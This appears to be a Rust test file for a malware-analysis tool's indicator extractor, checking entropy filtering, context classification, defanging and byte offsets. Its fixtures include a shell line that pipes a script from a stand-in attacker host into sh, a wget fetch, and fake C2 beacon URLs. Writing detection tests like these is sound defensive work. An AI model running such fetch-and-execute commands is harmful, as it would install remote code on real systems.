//! Indicators are scored only when confident (issue 40, item 4): random and compressed bytes give
//! none, section names, namespaces, certificates and version strings are context, a real URL in an
//! executable or a script still scores, `defanged` means really defanged, and each indicator
//! carries the offset it came from.

mod corpus;
mod server;

use std::io::Write;

use maljan_analysis::{
    ioc_judge::{Confidence, HIGH_ENTROPY, NAMESPACE, SYMBOL_NAME, VERSION_RESOURCE},
    iocs::{self, Indicator, KINDS},
};
use proptest::prelude::*;
use rand::{RngCore, SeedableRng, rngs::StdRng};
use serde_json::json;

fn from_file(bytes: &[u8]) -> Vec<Indicator> {
    iocs::extract_from_bytes(bytes, KINDS, &|| false)
}

fn scored(found: &[Indicator]) -> Vec<&Indicator> {
    found.iter().filter(|i| i.scored()).collect()
}

fn random(size: usize, seed: u64) -> Vec<u8> {
    let mut b = vec![0u8; size];
    StdRng::seed_from_u64(seed).fill_bytes(&mut b);
    b
}

/// Text full of indicators that varies line by line, so compressing it is real work.
fn indicator_text(lines: usize) -> String {
    (0..lines)
        .map(|i| {
            format!(
                "{i}: beacon http://c2-{i}.bad-actor.ru/gate.php?id={i} relay 185.220.{}.{} \
                 mail ops{i}@bad-actor.ru key HKCU\\Software\\Run\\u{i} C:\\Users\\Public\\x{i}.exe\n",
                i % 250,
                (i * 7) % 250 + 1
            )
        })
        .collect()
}

#[test]
fn random_bytes_give_no_scored_indicators() {
    for (size, seed) in [
        (1 << 10, 1),
        (4 << 10, 2),
        (64 << 10, 3),
        (1 << 20, 4),
        (50_000_000, 5),
    ] {
        let found = from_file(&random(size, seed));
        if size >= 1 << 20 {
            // Chance matches are there: it is the entropy rule that keeps them from counting.
            assert!(
                !found.is_empty(),
                "{size} random bytes: no chance match at all"
            );
        }
        let scored = scored(&found);
        assert!(
            scored.is_empty(),
            "{size} random bytes: {:?}",
            &scored[..scored.len().min(10)]
        );
        assert!(
            found
                .iter()
                .all(|i| i.reason.as_deref() == Some(HIGH_ENTROPY)),
            "every chance match is context for its entropy"
        );
    }
}

#[test]
fn compressed_text_gives_no_scored_indicators() {
    let text = indicator_text(20_000);
    assert!(
        !scored(&from_file(text.as_bytes())).is_empty(),
        "the text itself is full of indicators"
    );
    let gz = corpus::gzip(text.as_bytes(), "beacons.txt");
    let found = from_file(&gz);
    assert!(scored(&found).is_empty(), "gzip: {:?}", scored(&found));

    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for name in ["beacons.txt", "notes/setup.py", "readme.md", "logs/run.sh"] {
        w.start_file(name, opts).unwrap();
        w.write_all(text.as_bytes()).unwrap();
    }
    let zip = w.finish().unwrap().into_inner();
    let found = from_file(&zip);
    assert!(scored(&found).is_empty(), "zip: {:?}", scored(&found));
}

#[test]
fn a_url_in_an_executable_or_a_script_scores() {
    let found = from_file(&corpus::pe());
    let url = found
        .iter()
        .find(|i| i.kind == "url" && i.scored())
        .unwrap_or_else(|| panic!("{found:#?}"));
    assert_eq!(url.confidence, Confidence::High);

    let script =
        b"#!/bin/sh\ncurl -s http://dl.bad-actor.ru/x.sh | sh\nwget https://185.220.101.45/p\n";
    let found = from_file(script);
    let urls: Vec<&str> = found
        .iter()
        .filter(|i| i.kind == "url" && i.scored())
        .map(|i| i.value.as_str())
        .collect();
    assert_eq!(
        urls,
        ["http://dl.bad-actor.ru/x.sh", "https://185.220.101.45/p"]
    );
    let domain = found.iter().find(|i| i.kind == "domain").unwrap();
    assert_eq!(
        (domain.value.as_str(), domain.scored()),
        ("dl.bad-actor.ru", true)
    );
}

#[test]
fn section_and_symbol_names_are_context() {
    use object::{
        Architecture, BinaryFormat, Endianness, SectionKind, SymbolFlags, SymbolKind, SymbolScope,
        write,
    };
    let mut obj = write::Object::new(BinaryFormat::Elf, Architecture::X86_64, Endianness::Little);
    let relro = obj.add_section(Vec::new(), b".data.rel.ro".to_vec(), SectionKind::Data);
    obj.append_section_data(relro, &[0u8; 64], 8);
    let rodata = obj.section_id(write::StandardSection::ReadOnlyData);
    let off = obj.append_section_data(rodata, b"GET http://elf-c2.bad-actor.ru/beacon\0", 1);
    obj.add_symbol(write::Symbol {
        name: b"cfg.update.ru".to_vec(),
        value: off,
        size: 4,
        kind: SymbolKind::Data,
        scope: SymbolScope::Dynamic,
        weak: false,
        section: write::SymbolSection::Section(rodata),
        flags: SymbolFlags::None,
    });
    let elf = obj.write().unwrap();
    let found = from_file(&elf);
    let get = |v: &str| found.iter().find(|i| i.value == v);
    assert!(get("data.rel.ro").is_none_or(|i| !i.scored()), "{found:#?}");
    let symbol = get("cfg.update.ru").expect("the symbol name is reported");
    assert_eq!(symbol.reason.as_deref(), Some(SYMBOL_NAME));
    assert!(get("http://elf-c2.bad-actor.ru/beacon").is_some_and(Indicator::scored));
}

#[test]
fn namespaces_are_context() {
    let xmp = r#"<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>
<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:xmp="http://ns.adobe.com/xap/1.0/"
 xmlns:pdf="http://ns.adobe.com/pdf/1.3/" xmlns:custom="http://vendor.example.com/ns/1.0/">
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/ui/extensibility"/>
"#;
    let found = from_file(xmp.as_bytes());
    assert!(scored(&found).is_empty(), "{:#?}", scored(&found));
    assert!(
        found
            .iter()
            .filter(|i| i.kind == "url")
            .all(|i| i.reason.as_deref() == Some(NAMESPACE)),
        "{found:#?}"
    );
}

/// A VS_VERSION_INFO block as a PE's version resource carries it (UTF-16LE keys and values).
fn version_resource(version: &str) -> Vec<u8> {
    let wide = |s: &str| -> Vec<u8> {
        s.encode_utf16()
            .chain([0])
            .flat_map(u16::to_le_bytes)
            .collect()
    };
    let mut body = wide("VS_VERSION_INFO");
    body.extend([0, 0]);
    body.extend(wide("StringFileInfo"));
    body.extend(wide("FileVersion"));
    body.extend(wide(version));
    body.extend(wide("ProductVersion"));
    body.extend(wide(version));
    let mut block = Vec::new();
    block.extend(((body.len() + 6) as u16).to_le_bytes());
    block.extend([0x34, 0, 1, 0]);
    block.extend(body);
    let mut file = vec![0u8; 256];
    file.extend(block);
    file.extend([0u8; 256]);
    file
}

#[test]
fn version_strings_are_not_addresses() {
    let found = from_file(&version_resource("5.61.2.4"));
    let ip = found
        .iter()
        .find(|i| i.kind == "ipv4")
        .expect("reported as context");
    assert_eq!(ip.reason.as_deref(), Some(VERSION_RESOURCE));
    assert!(!ip.scored());

    for text in [
        "Product version 3.14.15.92",
        "libfoo v2.7.1.3",
        "<assemblyIdentity version=\"6.0.0.0\" name=\"Microsoft.Windows.Common-Controls\"/>",
        "FileVersion: 1.2.3.4",
        "build 10.0.19041.1",
    ] {
        let found = iocs::extract(text, &["ipv4"]);
        assert!(scored(&found).is_empty(), "{text}: {found:#?}");
    }
    // A .NET assembly's AssemblyFileVersion("2.1.5.3"): a custom attribute blob, prolog 01 00
    // and the string's length.
    let mut blob = vec![0u8; 64];
    blob.extend([0x01, 0x00, 7]);
    blob.extend(b"2.1.5.3\0\0");
    blob.extend([0u8; 64]);
    let found = from_file(&blob);
    let ip = found.iter().find(|i| i.kind == "ipv4").unwrap();
    assert!(!ip.scored(), "{ip:?}");

    let found = iocs::extract("relay 185.220.101.45:8443", &["ipv4"]);
    assert_eq!(scored(&found).len(), 1);
}

#[test]
fn defanged_means_really_defanged() {
    let found = iocs::extract(
        "D41D8CD98F00B204E9800998ECF8427E at Example.COM and hxxp://bad-actor[.]ru/x and 8.8.8(.)8",
        KINDS,
    );
    let get = |kind: &str| found.iter().find(|i| i.kind == kind).unwrap();
    assert!(!get("md5").defanged, "an upper-case MD5 is not defanged");
    assert!(!found.iter().any(|i| i.value == "example.com" && i.defanged));
    assert!(get("url").defanged && get("ipv4").defanged);
    assert_eq!(get("url").confidence, Confidence::High);
}

#[test]
fn offsets_point_at_the_bytes() {
    let mut b = vec![0u8; 300];
    b.extend_from_slice(b"GET http://ascii.bad-actor.ru/a\0");
    let wide_at = b.len() + 1;
    b.push(0);
    b.extend(
        "https://wide.bad-actor.ru/b"
            .encode_utf16()
            .flat_map(u16::to_le_bytes),
    );
    b.extend([0u8; 64]);
    let found = from_file(&b);
    let offset = |v: &str| found.iter().find(|i| i.value == v).unwrap().offset;
    assert_eq!(offset("http://ascii.bad-actor.ru/a"), 304);
    assert_eq!(offset("https://wide.bad-actor.ru/b"), wide_at as u64);
    let text = "see http://x.bad-actor.ru/";
    assert_eq!(iocs::extract(text, &["url"])[0].offset, 4);
}

#[tokio::test]
async fn the_tool_counts_only_confident_indicators() {
    let mut sample = random(64 << 10, 9);
    sample.extend_from_slice(b"\0\0GET http://beacon.bad-actor.ru/gate\0\0");
    sample.extend(random(4 << 10, 10));
    let s = server::Server::new(&[("mixed.bin", sample)]);
    let (v, is_error) = s
        .call("iocs_from_file", json!({"path": s.path("mixed.bin")}))
        .await;
    assert!(!is_error, "{v}");
    assert_eq!(v["counts"], json!({"domain": 1, "url": 1}), "{v}");
    let listed: Vec<&str> = v["indicators"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["value"].as_str().unwrap())
        .collect();
    assert_eq!(
        listed,
        ["http://beacon.bad-actor.ru/gate", "beacon.bad-actor.ru"]
    );
    assert_eq!(v["indicators"][0]["offset"], 64 * 1024 + 6);
    let context = v["context"].as_array().unwrap();
    assert!(
        context
            .iter()
            .all(|i| i["confidence"] == "low" && i["reason"].is_string()),
        "{v}"
    );
    let context_total: u64 = v["context_counts"]
        .as_object()
        .unwrap()
        .values()
        .map(|n| n.as_u64().unwrap())
        .sum();
    assert!(context_total as usize >= context.len());
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_bytes_never_panic(
        head in prop::sample::select(vec![&b""[..], b"MZ", b"\x7fELF\x02\x01", b"\xcf\xfa\xed\xfe"]),
        body in prop::collection::vec(any::<u8>(), 0..4096),
    ) {
        let mut b = head.to_vec();
        b.extend(body);
        for i in from_file(&b) {
            prop_assert!(i.scored() || i.reason.is_some());
        }
    }

    #[test]
    fn arbitrary_text_never_panics(text in "(?s).{0,400}") {
        let _ = iocs::extract(&text, KINDS);
    }

    #[test]
    fn indicator_like_text_never_panics(
        text in r"((hxxps?|https?|ftp)(\[:\]|:)//)?[a-z0-9\[\]().:@-]{0,60}(\.(com|ru|tk|py|zip))?( [0-9.:]{0,30})?",
    ) {
        let _ = iocs::extract(&text, KINDS);
        let _ = from_file(text.as_bytes());
    }
}
